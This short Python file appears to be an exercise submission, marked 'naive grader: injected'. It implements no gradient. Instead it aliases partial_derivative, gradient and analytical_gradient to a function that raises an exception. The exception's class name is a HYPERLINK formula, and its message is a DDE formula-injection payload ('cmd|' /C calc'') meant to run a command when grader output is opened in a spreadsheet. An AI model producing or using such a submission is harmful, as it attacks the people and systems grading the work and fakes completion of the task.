# exercise: 2.1; naive grader: injected
"""Raises exceptions of names that a spreadsheet computes."""

Formula = type('=HYPERLINK("https://example.org","10")', (Exception,), {})


def f(*args):
    raise Formula("@SUM(1+1)*cmd|' /C calc'!A0")


partial_derivative = gradient = analytical_gradient = f
